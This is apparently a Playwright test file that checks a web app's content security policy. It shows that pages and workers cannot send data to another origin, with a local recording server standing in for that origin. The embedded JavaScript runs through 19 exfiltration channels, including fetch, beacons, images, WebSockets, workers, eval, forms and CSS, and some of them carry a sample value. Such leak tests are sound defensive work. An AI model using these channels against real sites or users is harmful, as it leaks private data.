"""Pages and workers try to tell another origin something; nothing arrives there."""

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import Browser

from tests.browser.travelling_home import TravellingHome

TRY_EVERYTHING_FROM_A_PAGE = """
async elsewhere => {
  const settled = (element, address) => new Promise((done, fail) => {
    element.onload = done; element.onerror = fail
    if ('src' in element) element.src = address; else element.href = address
    document.body.append(element)
  })
  const within = (promise) => Promise.race([promise, new Promise((_, fail) => setTimeout(fail, 1000))])
  const link = (rel) => Object.assign(document.createElement('link'), { rel, as: 'script' })
  const opened = (thing) => new Promise((done, fail) => { thing.onopen = done; thing.onerror = fail })
  const form = () => {
    const form = document.createElement('form')
    Object.assign(form, { method: 'post', action: `${elsewhere}/form`, target: '_blank' })
    document.body.append(form); form.submit(); throw new Error('no answer expected')
  }
  const inline = () => {
    const script = document.createElement('script')
    script.textContent = `fetch('${elsewhere}/inline', {mode: 'no-cors'})`
    document.body.append(script); throw new Error('no answer expected')
  }
  const style = () => {
    document.body.setAttribute('style', `background: url(${elsewhere}/style)`)
    document.body.style.backgroundImage = `url(${elsewhere}/style-by-script)`
    throw new Error('no answer expected')
  }
  const tries = [
    () => fetch(`${elsewhere}/fetch?pain=8`, { mode: 'no-cors' }),
    () => fetch(`${elsewhere}/post`, { mode: 'no-cors', method: 'POST', body: 'pain=8', keepalive: true }),
    () => settled(new Image(), `${elsewhere}/image?pain=8`),
    () => settled(new Audio(), `${elsewhere}/audio`),
    () => settled(document.createElement('script'), `${elsewhere}/script.js`),
    () => settled(document.createElement('iframe'), `${elsewhere}/frame`).then(() => { throw new Error('empty') }),
    () => settled(link('stylesheet'), `${elsewhere}/sheet.css`),
    () => settled(link('preload'), `${elsewhere}/preload.js`),
    () => settled(link('prefetch'), `${elsewhere}/prefetch.js`),
    () => import(`${elsewhere}/import.js`),
    () => opened(new WebSocket(`${elsewhere.replace('http', 'ws')}/socket`)),
    () => opened(new EventSource(`${elsewhere}/events`)),
    () => { navigator.sendBeacon(`${elsewhere}/beacon`, 'pain=8'); throw new Error('no answer expected') },
    () => new Worker(`${elsewhere}/worker.js`),
    () => opened(new Worker(URL.createObjectURL(new Blob([`fetch('${elsewhere}/blob')`])))),
    () => (0, eval)(`fetch('${elsewhere}/eval')`),
    form, inline, style,
  ]
  const succeeded = []
  for (const attempt of tries) {
    try { await within(Promise.resolve(attempt())); succeeded.push(String(attempt)) } catch { /* refused */ }
  }
  return { tried: tries.length, succeeded }
}
"""

TRY_EVERYTHING_FROM_A_WORKER = """
elsewhere => new Promise((done, fail) => {
  const worker = new Worker('/leak-worker.js')
  worker.onmessage = ({ data }) => done(data)
  worker.onerror = () => fail(new Error('the worker did not start'))
  worker.postMessage(elsewhere)
})
"""


class Elsewhere:
    """Another origin, which writes down whatever reaches it."""

    def __init__(self) -> None:
        arrived: list[str] = []

        class Handler(BaseHTTPRequestHandler):
            def handle_one_request(self) -> None:
                self.raw_requestline = self.rfile.readline(65537)
                if self.raw_requestline:
                    arrived.append(self.raw_requestline.decode(errors="replace").strip())
                    self.wfile.write(b"HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Length: 0\r\n\r\n")
                self.close_connection = True

        self.arrived = arrived
        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.address = f"http://127.0.0.1:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    other = Elsewhere()
    yield other
    other.server.shutdown()
    other.server.server_close()


def test_the_other_origin_would_notice(chromium: Browser, home: TravellingHome, elsewhere: Elsewhere) -> None:
    """Without our policy the same tries do arrive: the tests below can fail."""
    context = chromium.new_context(base_url=home.address, bypass_csp=True)
    page = context.new_page()
    context.request.get(home.opening_path)
    page.goto("/start")
    page.evaluate(TRY_EVERYTHING_FROM_A_PAGE, elsewhere.address)
    context.close()
    arrived = " ".join(elsewhere.arrived)
    for one in ("fetch?", "post", "image?", "script.js", "frame", "sheet.css", "import.js", "socket", "beacon", "form"):
        assert f"/{one}" in arrived, one


def test_nothing_leaks_from_a_page(chromium: Browser, home: TravellingHome, elsewhere: Elsewhere) -> None:
    context = chromium.new_context(base_url=home.address)
    page = context.new_page()
    context.request.get(home.opening_path)
    page.goto("/start")
    result = page.evaluate(TRY_EVERYTHING_FROM_A_PAGE, elsewhere.address)
    context.close()
    assert result["tried"] == 19
    assert result["succeeded"] == []
    assert elsewhere.arrived == []


def test_nothing_leaks_from_a_worker(chromium: Browser, home: TravellingHome, elsewhere: Elsewhere) -> None:
    context = chromium.new_context(base_url=home.address)
    page = context.new_page()
    context.request.get(home.opening_path)
    page.goto("/start")
    result = page.evaluate(TRY_EVERYTHING_FROM_A_WORKER, elsewhere.address)
    context.close()
    assert result == {"tried": 6, "succeeded": 0}
    assert elsewhere.arrived == []
